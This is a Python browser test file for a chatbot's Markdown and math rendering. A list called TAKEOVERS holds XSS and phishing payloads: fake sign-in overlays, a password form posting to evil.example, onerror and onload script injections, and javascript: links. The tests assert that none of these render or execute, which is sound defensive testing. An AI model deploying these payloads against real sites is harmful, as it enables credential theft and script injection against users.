"""What is written is seen, all of it, and is never markup: whole, cut anywhere, and while it streams."""

from __future__ import annotations

import json
import re
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urljoin

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from mdit_py_plugins.tasklists import tasklists_plugin

from chatbot import rendering
from tests.chatbot.browsing import answers, ask, menu, picture, questions, ready, send, settled, violations
from tests.chatbot.fake_openai import FakeOpenAI
from tests.chatbot.served import App, Served

if TYPE_CHECKING:
    from playwright.sync_api import Page

# --- against a Markdown that nobody here wrote

REFERENCE = MarkdownIt("commonmark", {"html": False, "breaks": True}).enable(["table", "strikethrough"])
REFERENCE.use(tasklists_plugin)
REFERENCE.normalizeLinkText = lambda url: url  # type: ignore[method-assign]
# In the page: what our script makes of a text, and the reference's HTML, both as a reader sees them.
SEEN = """async ([texts, pages]) => {
  const { blocks } = await import("/page/words.js");
  const tools = { copy: "", highlight: async (code) => code, katex: async () => ({ render() {} }) };
  const place = document.createElement("div");
  place.className = "prose md";
  document.body.append(place);
  const seen = [];
  for (const [index, text] of texts.entries()) {
    place.replaceChildren();
    for (const block of blocks(text, place, tools).blocks) place.append(await block.render());
    const ours = place.innerText;
    place.innerHTML = pages[index];
    for (const image of place.querySelectorAll("img")) image.replaceWith(image.alt || image.getAttribute("src"));
    seen.push([ours, place.innerText]);
  }
  place.remove();
  return seen;
}"""
PIECES = (
    "<int>", "</b>", "<a b='c'>", "<!--", "-->", "<![CDATA[", "<?php", "<", ">", "<T>(", "<foo:bar>",
    "<ada@example.org>", "&", "&lt;", "&#x3c;", "&copy;", "&amp;amp;", "`", "``", "```", "~~~", "**", "*",
    "_", "__", "~~", "# ", "## ", '"', "'", "(", ")", "[", "]", "!", "\\", "|", ":", "-", "=", "\n", "\n\n",
    "\n- ", "\n  - ", "\n    - ", "\n* [x] ", "\n- [ ] ", "\n> ", "\n>> ", "\n1. ", "\n2) ", "\n```\n",
    "\n```c++\n", "\n````\n", "\n    ", "\n\t", "\n---\n", "\n===\n", "  \n", "\\\n", " ", " ", "  ", "word",
    "x1", "vector", "é", "中文", "שלום", "مرحبا", "\u200f", "x\u00a0y", "😀",
    "👩‍👩‍👧‍👦", "[a](b)", "[a]: https://e.org\n", "[a]", "[a][a]",
    "![i<j>](https://e.org/p)", "![](q)", "<https://e.org/?a=1&b=%20>", "http://e.org/?a&b",
    "https://e.org/a_b_c", "www.e.org", "\n\n| a | b |\n|---|:-:|\n| c | <d> |\n",
)  # fmt: skip
TEXTS = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=4)), max_size=40).map("".join)


def _written(text: str) -> str:
    """Without what is a formula, which CommonMark does not know, and what no text in UTF-8 has."""
    return re.sub(r"\\+(?=[(\[])", "", text.replace("$", "")).encode("utf-8", "ignore").decode()


@pytest.mark.browser
@settings(max_examples=400, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])  # fmt: skip
@given(text=TEXTS.map(_written), cut=st.floats(0, 1))
@example(text="std::vector<int> v; Map<K, V> <your-name> end", cut=0.5)
def test_what_is_seen_is_what_commonmark_says_wherever_it_is_cut(page: Page, text: str, cut: float) -> None:
    texts = [each for each in (text, text[: int(len(text) * cut)]) if each.strip()]
    for each, (ours, reference) in zip(
        texts, page.evaluate(SEEN, [texts, list(map(REFERENCE.render, texts))]), strict=True
    ):
        assert ours.split() == reference.split(), repr(each)


# --- nothing is markup

# What Markdown makes, what the page puts around a block of code (a button to copy it), and KaTeX's formulas.
MADE = {
    "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DIV", "EM", "H1", "H2", "H3", "H4", "H5", "H6", "HR", "INPUT", "LI",
    "OL", "P", "PATH", "PRE", "S", "SPAN", "STRONG", "SVG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL",
}  # fmt: skip
TAKEOVERS = (
    "<div style='position:fixed;inset:0;background:white;z-index:9999'><h2>Your session has expired</h2>"
    "Please <a href='https://evil.example'>sign in again</a></div>",
    "<form action='https://evil.example'><input name=password type=password><button>Sign in</button></form>",
    "<style>#box { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
    "```mermaid\n<div style='position:fixed;inset:0;background:white;z-index:9999'>Sign in</div>\n```",
    "```mermaid\ngraph TD; A[\"<img src=x onerror='window.hacked=1'>\"] --> B\n```",
    "$$\n<div style='position:fixed;inset:0'>Sign in</div>\n$$",
    "$$\\rule{200em}{200em}$$ and $\\rule{900em}{900em}$",
    "$\\kern-80em\\raise60em{\\Huge\\text{Sign in again}}$ \\(\\hspace{-999px}\\smash{\\rule{99em}{99em}}\\)",
    "$\\href{javascript:window.hacked=1}{x} \\htmlStyle{position:fixed}{x} \\includegraphics{https://evil.example/p.png}$",
    "<svg onload='window.hacked=1'><a xlink:href='javascript:window.hacked=1'><text>Sign in</text></a></svg>",
    "<math><mtext><style><img src=x onerror=window.hacked=1></style></mtext></math>",
    "| a |\n|---|\n| <div style='position:fixed;inset:0'>Sign in</div> |",
    "# <div style='position:fixed;inset:0'>Sign in</div>",
    "- <dialog open style='inset:0'>Sign in</dialog>",
    "[<div style='position:fixed;inset:0'>Sign in</div>](https://evil.example '\"><b style=position:fixed>')",
    "![<b style='position:fixed'>x</b>](https://evil.example/pixel.png '\"><b style=position:fixed>')",
    "[x]: https://evil.example '<div style=position:fixed>'\n\n[x] and [x][x]",
    '<https://evil.example/"style="position:fixed> [j](javascript:window.hacked=1) [d](data:text/html,<script>)',
    "````\n</code></pre><div style='position:fixed'>out</div>",
    "```js\" onclick=\"window.hacked=1\n<img src=x onerror='window.hacked=1'>\n```",
    "<script>window.hacked=1</script><iframe src='https://evil.example'></iframe><img src=x onerror='window.hacked=1'>",
)


def show(page: Page, *messages: tuple[str, str]) -> None:
    """Open a conversation of (role, text) as one that this browser had kept."""
    kept = [{"role": role, "text": text} for role, text in messages]
    address = page.url
    page.goto(urljoin(address, "/healthz"))  # the page's own script is away: on leaving, it keeps what is open
    page.evaluate(
        "kept => { localStorage.clear(); sessionStorage.clear(); localStorage.setItem('chatbot:current', 'k');"
        " localStorage.setItem('chatbot:conversation:k', JSON.stringify({id: 'k', title: 'Kept', updated: 1,"
        " messages: kept})) }",
        kept,
    )
    page.goto(address)
    ready(page)
    drawn = "n => [...document.querySelectorAll('#chat .md')].filter(m => m.childNodes.length).length >= n"
    page.wait_for_function(drawn, arg=len(messages))


def seen(page: Page, role: str) -> list[str]:
    texts: list[str] = page.locator(f"#chat [data-testid={role}] .md").evaluate_all("all => all.map(m => m.innerText)")
    return texts


MADE_NOW = """() => [...document.querySelectorAll("#chat .md *")]
  .filter((e) => !e.closest(".katex, button"))
  .map((e) => [e.nodeName.toUpperCase(), ...[...e.attributes].map((a) => a.name).filter((n) => /^(style$|on)/.test(n))])
  .map((words) => words.join(" "))"""
OVER = """() => {
  const over = [];
  for (let x = 4; x < innerWidth; x += 40) for (let y = 4; y < innerHeight; y += 20) {
    const at = document.elementFromPoint(x, y)?.closest("#chat .md");
    const box = at?.getBoundingClientRect();
    if (box && (x < box.left - 1 || x > box.right + 1 || y < box.top - 1 || y > box.bottom + 1)) over.push([x, y]);
  }
  return over;
}"""


@pytest.mark.browser
def test_nothing_that_is_written_is_markup_or_reaches_out_of_its_message(page: Page) -> None:
    asked_elsewhere: list[str] = []
    page.on("request", lambda request: asked_elsewhere.append(request.url))
    show(page, *[(role, text) for text in TAKEOVERS for role in ("user", "assistant")])
    assert set(page.evaluate(MADE_NOW)) <= MADE
    assert page.evaluate("window.hacked") is None
    assert [url for url in asked_elsewhere if "evil.example" in url] == []
    assert page.locator("#chat .md :is(form, style, iframe, img, input:not([type=checkbox]))").count() == 0
    for place in ("scrollTo(0, 0)", "scrollBy(0, 700)", "scrollBy(0, 700)", "scrollBy(0, 1e6)"):
        page.evaluate(f"document.querySelector('#chat .bubble-wrap').{place}")
        assert page.evaluate(OVER) == [], "a message reaches out of its box"
    attributes = "all => all.map(a => [a.getAttribute('href'), a.rel, a.target, a.title])"
    links = page.locator("#chat .md a").evaluate_all(attributes)
    assert links, "links are links"
    for href, rel, target, title in links:
        assert re.match(r"https?://", href) and (rel, target, title) == ("noopener noreferrer", "_blank", href)


@pytest.mark.browser
def test_a_link_says_where_it_goes_and_a_picture_is_a_link(page: Page) -> None:
    text = (
        "[sign in](https://evil.example/login) https://example.org/a <https://example.org> "
        "[mail](mailto:ada@example.org) [home](/config) ![a picture](https://evil.example/p.png) "
        "![](https://evil.example/q.png) [![in](i.png)](https://a.example)"
    )
    show(page, ("user", "?"), ("assistant", text))
    found = (
        answers(page)
        .locator("a")
        .evaluate_all("all => all.map(a => [a.innerText, getComputedStyle(a, '::after').content.replaceAll('\"', '')])")
    )
    own = page.evaluate("location.host")
    assert found == [
        ["sign in", " (evil.example)"], ["https://example.org/a", "none"], ["https://example.org", "none"],
        ["mail", " (ada@example.org)"], ["home", f" ({own})"], ["a picture", " (evil.example)"],
        ["https://evil.example/q.png", "none"], ["in", " (a.example)"],
    ]  # fmt: skip


TYPED = (
    "std::vector<int> v; Map<K, V> <your-name> &lt;b&gt; &amp; AT&T",
    "# word\n\n  two spaces and a tab\t, <b>x</b> or <details open>y</details> <script>alert(1)</script> end  ",
    "*a* _b_ `c` [d](e) $x$ 1. 2)\n\n\n- list\n\n> quote\n",
    'src="/file=x" and %%%LATEX_BLOCK_0%%%',
)


@pytest.mark.browser
def test_a_question_is_shown_kept_copied_sent_and_exported_as_it_was_typed(page: Page, fake: FakeOpenAI) -> None:
    for text in TYPED:
        ask(page, text)
        assert questions(page).last.locator(".md").evaluate("md => md.textContent") == text
        assert fake.requests[-1]["messages"][-1]["content"] == text
        page.locator("#chat .message-buttons-right").last.get_by_role("button", name="Copy message").click()
        assert page.evaluate("navigator.clipboard.readText()") == text
    with page.expect_download() as download:
        menu(page, "Export as JSON")
    exported = json.loads(Path(download.value.path()).read_text())
    assert [message["text"] for message in exported["messages"] if message["role"] == "user"] == list(TYPED)
    page.reload()
    ready(page)
    page.wait_for_function(
        "texts => JSON.stringify(texts) === JSON.stringify("
        "[...document.querySelectorAll('#chat [data-testid=user] .md')].map(m => m.textContent))",
        arg=list(TYPED),
    )


@pytest.mark.browser
def test_an_answer_is_copied_kept_and_sent_on_as_it_was_written(page: Page, fake: FakeOpenAI) -> None:
    answer = '    indented <code> &amp;\n\nstd::vector<int> src="/file=x" <think>a</think> $5  \n\n'
    ask(page, f"says {json.dumps(answer)}")
    page.locator("#chat .message-buttons-left").get_by_role("button", name="Copy message").click()
    assert page.evaluate("navigator.clipboard.readText()") == answer
    ask(page, "and now?")
    assert [turn["content"] for turn in fake.requests[-1]["messages"][-2:]] == [answer, "and now?"]


@pytest.mark.browser
def test_an_edited_question_is_what_was_written_over_it(page: Page, fake: FakeOpenAI) -> None:
    ask(page, TYPED[0])
    page.locator("#chat").get_by_role("button", name="Edit").first.click()
    area = page.locator("#chat .edit-textarea")
    assert area.input_value() == TYPED[0]
    area.fill(TYPED[1])
    area.press("Enter")
    page.wait_for_function("document.body.dataset.state === 'answering'")
    settled(page)
    assert fake.requests[-1]["messages"][-1]["content"] == TYPED[1]


@pytest.mark.browser
def test_no_moment_of_a_stream_is_markup_and_its_end_is_whole(page: Page) -> None:
    text = f"{TYPED[0]}\n\n{TAKEOVERS[0]}\n\n| a | b |\n|---|---|\n| 1<2 | <td> |\n\n- [x] `a<b>`\n\nThe end <of> it."
    page.evaluate(
        f"window.made = new Set(); new MutationObserver(() => ({MADE_NOW})().forEach(e => window.made.add(e)))"
        ".observe(document.querySelector('#chat'), { childList: true, subtree: true })"
    )
    ask(page, f"says {json.dumps(text)}")
    (ours, reference), = page.evaluate(SEEN, [[text], [REFERENCE.render(text)]])  # fmt: skip
    assert answers(page).locator(".md").inner_text().split() == ours.split() == reference.split()
    assert set(page.evaluate("[...window.made]")) <= MADE


@pytest.mark.browser
def test_an_answer_of_blanks_says_that_there_was_none(page: Page) -> None:
    send(page, f"says {json.dumps(chr(10) + '   ' + chr(10) * 2)}")
    settled(page, "failed")
    assert answers(page).count() == 0 and "no answer" in page.locator("#notice").inner_text()


# --- formulas, directions, code

FORMULAS = {
    "$e^{i\\pi}+1=0$": ["e^{i\\pi}+1=0"],
    "a $x<y$ and \\(a<b\\), done": ["x<y", "a<b"],
    "$$\n\\int_0^1 x\\,dx\n$$": ["\\int_0^1 x\\,dx"],
    "so $$a = b$$ holds": ["a = b"],
    "\\[ a = b \\]": [" a = b "],
    "so \\[a\\] holds": ["a"],
    "\\[\n\\begin{aligned}\na &= b \\\\\n\nc &= d\n- e\n\\end{aligned}\n\\]":
        ["\n\\begin{aligned}\na &= b \\\\\n\nc &= d\n- e\n\\end{aligned}\n"],
    "1. first $$x$$\n2. second\n   \\[y\\]": ["x", "y"],
    "> $$z$$": ["z"],
    "| a |\n|---|\n| $x$ |": ["x"],
    "**$x$**": ["x"],
    "`$x$` and ```$$y$$```": [],
    "```\n$$x$$\n```": [],
    "$5 to $10": [],
    "It costs $5, or $10, or $1,000.": [],
    "US$5 and US$10": [],
    "$20-$30 and ($5)": [],
    "from $x to $y": [],
    "\\$5$ and \\$6$": [],
    "$ x$ and $x $": [],
    "echo $$ <pid>": [],
    "$$ never closed\n\nwords": [],
    "\\[ never closed\n\nwords \\( nor this": [],
    "\\\\[2pt] \\\\(x)": [],
    "$$": [],
    "$$$$ \\[\\] \\(\\) $ $": [],
}  # fmt: skip


@pytest.mark.browser
def test_formulas_are_drawn_in_four_forms_and_prices_are_not(page: Page) -> None:
    show(page, ("user", "?"), *[("assistant", text) for text in FORMULAS])
    page.wait_for_function(
        "n => document.querySelectorAll('#chat .katex').length >= n", arg=sum(map(len, FORMULAS.values()))
    )
    found = page.locator("#chat [data-testid=bot] .md").evaluate_all(
        "all => all.map(m => [...m.querySelectorAll('annotation')].map(a => a.textContent))"
    )
    for (text, formulas), drawn in zip(FORMULAS.items(), found, strict=True):
        assert [one.split() for one in drawn] == [one.split() for one in formulas], text
    for text, shown in zip(FORMULAS, seen(page, "bot"), strict=True):
        if not FORMULAS[text]:
            assert sum(map(str.isalnum, shown)) == sum(map(str.isalnum, text)), text
    assert page.locator("#chat .katex-error").count() == 0


@pytest.mark.browser
def test_each_block_goes_in_the_direction_of_its_words(page: Page) -> None:
    text = (
        "مرحبا `code` world\n\nEnglish\n\n- שלום\n- **hello**\n\n> 123 مرحبا\n\n"
        "| عنوان | title |\n|---|---|\n| a | b |\n\n```\nمرحبا\n```"
    )
    question = "שלום, מה שלומך? (123) test!"
    show(page, ("user", question), ("assistant", text), ("user", "hello"), ("assistant", "مرحبا $x$"))
    directions = "all => all.map(e => [e.nodeName, getComputedStyle(e).direction, e.innerText.trim().split(/\\s/)[0]])"
    found = answers(page).first.locator(":is(p, li, th, pre)").evaluate_all(directions)
    assert found == [
        ["P", "rtl", "مرحبا"], ["P", "ltr", "English"], ["LI", "rtl", "שלום"], ["LI", "ltr", "hello"],
        ["P", "rtl", "123"],
        ["TH", "rtl", "عنوان"], ["TH", "ltr", "title"], ["PRE", "ltr", "مرحبا"],
    ]  # fmt: skip
    inside = "all => all.map(e => [getComputedStyle(e).direction, getComputedStyle(e).unicodeBidi])"
    for foreign in ("p code", ".formula"):  # "vector<int>" would be "<vector<int" in the midst of Arabic
        assert answers(page).locator(foreign).evaluate_all(inside) == [["ltr", "isolate"]], foreign
    typed = questions(page).locator(".typed").evaluate_all("all => all.map(e => getComputedStyle(e).direction)")
    assert typed == ["rtl", "ltr"]
    box = page.locator("#box textarea")
    for text, direction in (("مرحبا", "rtl"), ("hello", "ltr")):
        box.fill(text)
        assert box.evaluate("box => getComputedStyle(box).direction") == direction


@pytest.mark.browser
def test_markdown_is_drawn_and_code_is_coloured(page: Page) -> None:
    text = (
        "# One\n\n**bold** *it* ~~gone~~ `code` [a link](https://example.org)\n\n- x\n  - y\n    1. z\n- [x] done\n"
        "- [ ] open\n\n| a | b |\n"
        "|---|---|\n| 1 | 2 |\n\n```python\nprint('<hi>')\n```\n\n```c++\nstd::vector<int> v;\n```\n\n"
        "```nothing-known\na < b\n```\n\n```constructor\na < b\n```\n\n    indented <code>\n\n[ref]\n\n"
        "[ref]: https://example.org/ref"
    )
    show(page, ("user", "?"), ("assistant", text))
    answer = answers(page).locator(".md")
    for selector in (
        "h1",
        "strong",
        "em",
        "s",
        "p code",
        "ul li",
        "table td",
        ".language-python .token",
        "[class*='c++'] .token",
    ):
        answer.locator(selector).first.wait_for()
    boxes = "all => all.map(box => [box.checked, box.disabled, box.ariaLabel])"
    assert answer.locator("input").evaluate_all(boxes) == [
        [True, True, "Done"], [False, True, "To do"],
    ]  # fmt: skip
    sizes = answer.locator("li").evaluate_all("all => all.map(li => getComputedStyle(li).fontSize)")
    assert len(set(sizes)) == 1, "the deeper a list the smaller, in Gradio's own looks"
    assert [code.strip() for code in answer.locator("pre").all_inner_texts()] == [
        "print('<hi>')", "std::vector<int> v;", "a < b", "a < b", "indented <code>",
    ]  # fmt: skip
    answer.locator(".copy_code_button").nth(1).click()
    assert page.evaluate("navigator.clipboard.readText()") == "std::vector<int> v;"


ALL = r"""A `std::vector<int>` holds values of one type; the text says vector<int> or <your-name>, and both are seen.

```cpp
std::vector<int> squares;
for (int i = 1; i <= 3; ++i) squares.push_back(i * i);  // 1, 4, 9
```

| n | n² | where |
|--:|---:|---|
| 2 | 4 | [a reference](https://example.org/square) |

The sum up to $n$ is $\tfrac{n(n+1)}{2}$, for $5 to $10 of anything:

$$\sum_{k=1}^{n} k^2 = \frac{n(n+1)(2n+1)}{6}$$

المتجه `vector<int>` قائمة من الأعداد الصحيحة.

- [x] declared
- [ ] <b>bold</b> is no markup
"""


@pytest.mark.browser
@pytest.mark.parametrize("look", ["light", "dark"])
def test_an_answer_with_all_of_it_is_readable_in_both_looks(page: Page, look: str, tmp_path: Path) -> None:
    page.emulate_media(color_scheme=look)  # type: ignore[arg-type]
    page.set_viewport_size({"width": 1280, "height": 980})
    show(page, ("user", "שלום, מה זה וקטור?"), ("assistant", ALL))
    answer = answers(page).locator(".md")
    for selector in (".token", "td", ".katex-html", "p[dir]", "input"):
        answer.locator(selector).first.wait_for()
    assert page.evaluate("document.body.classList.contains('dark')") == (look == "dark")
    assert violations(page, look) == []
    page.evaluate("document.querySelector('#chat .bubble-wrap').scrollTo(0, 0)")
    picture(page, tmp_path, f"words-{look}")


@pytest.mark.browser
def test_the_title_and_the_line_below_it_are_shown_as_they_are(
    serve: Callable[..., Served], opened: Callable[..., Page]
) -> None:
    title, tagline = (
        "Ada & <Co> *1* `x`",
        "<b>Ask</b> me & [you](https://evil.example) # 1. a|b $x$ &lt; https://a.example",
    )
    page = opened(serve(CHATBOT_TITLE=title, CHATBOT_TAGLINE=tagline).url)
    assert page.locator("#chat .placeholder h2").inner_text() == title
    assert page.locator("#chat .placeholder p").inner_text() == tagline


# --- Gradio's scripts


def test_another_gradio_ends_the_start_instead_of_being_served_as_it_is(tmp_path: Path) -> None:
    with pytest.raises(rendering.OtherGradio, match="has 0 scripts markdown-code"):
        rendering.scripts(tmp_path)
    for name in ("markdown-code-a.js", "katex-a.js", "katex-a.css", "Index-a.js"):
        (tmp_path / name).write_text("export const nothing = 1;")
    with pytest.raises(rendering.OtherGradio, match="0 different places"):
        rendering.scripts(tmp_path)


def test_the_changed_scripts_are_what_the_page_is_served_and_revalidates(app: App) -> None:
    for script in rendering.scripts():
        url = f"{app.url}/assets/{script.name}"
        with urllib.request.urlopen(url, timeout=60) as answer:
            assert (answer.read(), answer.headers["cache-control"]) == (script.body, "no-cache")
        known = urllib.request.Request(url, headers={"If-None-Match": script.etag})
        with pytest.raises(urllib.error.HTTPError, match="304"):
            urllib.request.urlopen(known, timeout=60)
